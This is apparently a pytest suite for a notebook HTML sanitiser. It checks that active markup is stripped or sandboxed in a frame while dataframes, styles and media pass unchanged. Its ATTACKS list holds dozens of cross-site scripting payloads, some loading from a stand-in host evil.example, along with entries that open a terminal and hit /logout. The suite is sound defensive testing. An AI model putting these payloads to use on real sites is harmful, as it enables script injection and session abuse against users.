"""HTML from the sandbox: what acts in a page is taken out or framed, what people show passes. Browsers have tests of their own."""

from __future__ import annotations

import html

import pytest
from hypothesis import given
from hypothesis import strategies as st

from .page import SAFE, TRUSTED, Page

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=/api/terminals method=post><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style='position:fixed;inset:0;z-index:99999'>log in</div>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='background:u\\72l(//evil.example/x)'>x</div>",
    "<div data-commandlinker-command='terminal:create-new'>click</div>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>body{display:none}</style>",
    "<style>.jp-Toolbar{display:none}</style>",
    "<style>.a{}</style><style>* {background:red}</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<<script>alert(1)//<</script>",
    "<img src=`x`onerror=alert(1)>",
    "<x/onclick=alert(1)>click",
    "<p id=jupyter-config-data>{}</p>",
    "<textarea autofocus onfocus=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<title><img src=x onerror=alert(1)></title>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_does_not_reach_the_page(attack: str) -> None:
    data, _ = SAFE.bundle({"text/html": attack, "text/plain": "plain"}, {})
    assert Page(data["text/html"]).acts == []
    assert "jupyter-config-data" not in data["text/html"]
    assert data["text/plain"] == "plain"


@pytest.mark.parametrize("attack", ATTACKS)
def test_trusted_passes_everything(attack: str) -> None:
    bundle = {"text/html": attack, "application/javascript": "x"}
    assert TRUSTED.bundle(bundle, {}) == (bundle, {})


@given(st.text(alphabet="<>/'\"= `abcimgsvon:()&;#x-!\n", max_size=60))
def test_no_text_reaches_the_page_as_active_markup(text: str) -> None:
    data, _ = SAFE.bundle({"text/html": text}, {})
    assert Page(data["text/html"]).acts == []


@pytest.mark.parametrize(
    "markup",
    [
        "<b>bold</b>",
        '<table border="1" class="dataframe"><tbody><tr style="text-align: right"><th>a</th></tr></tbody></table>',
        '<progress style="width:60ex" max="10" value="3"></progress>',
        '<img src="data:image/png;base64,AAAA" width="10">',
        "<details><summary>more</summary><p>text</p></details>",
        '<style type="text/css">\n#T_1_row0_col0 {\n  color: red;\n}\n</style><table id="T_1"></table>',
        "<pre>a &lt; b</pre>",
        '<span style="color:rgb(1, 2, 3); font-weight:bold">x</span>',
        '<audio controls=""><source src="data:audio/wav;base64,AAAA" type="audio/wav"></audio>',
    ],
)
def test_inert_markup_passes_unchanged(markup: str) -> None:
    assert SAFE.bundle({"text/html": markup}, {})[0]["text/html"] == markup


def test_data_frame_keeps_its_looks() -> None:
    import pandas

    markup = SAFE.bundle({"text/html": pandas.DataFrame({"a": [1]})._repr_html_()}, {})[0]["text/html"]
    assert "<iframe" not in markup and "only-of-type" in markup and 'class="dataframe"' in markup


def test_scripts_run_in_a_frame_of_their_own() -> None:
    source = '<div id="plot" style="height:450px"></div><script>draw("plot")</script>'
    markup = SAFE.bundle({"text/html": source}, {})[0]["text/html"]
    page = Page(markup)
    assert page.frames == 1 and page.acts == []
    assert "allow-same-origin" not in markup and "height:490px" in markup
    assert source in html.unescape(markup)
    assert "connect-src data: blob:" in html.unescape(markup)


def test_links_open_elsewhere_and_tell_nothing() -> None:
    markup = SAFE.bundle({"text/html": '<a href="https://example.com/">x</a><a href="/lab">y</a>'}, {})[0]["text/html"]
    assert 'href="https://example.com/"' in markup and "noopener" in markup and "/lab" not in markup


def test_page_fetches_nothing_with_its_cookies() -> None:
    for markup in (
        "<img src=/logout>",
        "<img src=http://localhost/logout>",
        "<video poster=/logout>",
        "<img srcset=/x>",
    ):
        assert Page(SAFE.bundle({"text/html": markup}, {})[0]["text/html"]).frames == 1
    markdown = SAFE.bundle({"text/markdown": "![a](/logout) ![b](data:image/png;base64,AA)"}, {})[0]["text/markdown"]
    assert markdown == "[a](/logout) ![b](data:image/png;base64,AA)"


@pytest.mark.parametrize(
    "sheet",
    [
        ":not(.z){color:red}",
        ".z:has(a){color:red}",
        "button:not(.z){color:red}",
        ".z{position:fixed}",
        ".z,p{color:red}",
    ],
)
def test_style_sheet_for_the_page_goes_into_a_frame(sheet: str) -> None:
    assert Page(SAFE.bundle({"text/html": f'<style>{sheet}</style><i class="z"></i>'}, {})[0]["text/html"]).frames == 1
